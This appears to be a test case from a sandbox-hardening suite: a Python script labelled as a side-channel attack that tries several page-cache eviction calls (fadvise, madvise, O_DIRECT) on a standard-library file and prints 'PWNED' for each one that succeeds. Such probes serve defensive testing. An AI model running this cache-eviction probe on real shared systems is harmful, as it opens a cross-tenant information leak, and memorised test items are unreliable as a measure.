# /// attack
# category = "side-channel"
# kind = "stdio"
# success = "marker"
# expected = ["wrong_answer", "sandbox_violation"]
# summary = "Evicts pages of the standard library, which later executions would notice by their page faults."
# ///

import ctypes
import mmap
import os

libc = ctypes.CDLL(None, use_errno=True)
MADV_COLD, MADV_PAGEOUT, MADV_COLLAPSE = 20, 21, 25
descriptor = os.open(os.__file__, os.O_RDONLY)
mapping = mmap.mmap(descriptor, 0, access=mmap.ACCESS_READ)
attempts = [
    lambda: os.posix_fadvise(descriptor, 0, 0, os.POSIX_FADV_DONTNEED),
    lambda: mapping.madvise(MADV_COLD),
    lambda: mapping.madvise(MADV_PAGEOUT),
    lambda: mapping.madvise(MADV_COLLAPSE),
    lambda: os.close(os.open(os.__file__, os.O_RDONLY | os.O_DIRECT)),
]
for attempt in attempts:
    try:
        attempt()
    except OSError as error:
        print("blocked", error)
    else:
        print("PWNED")
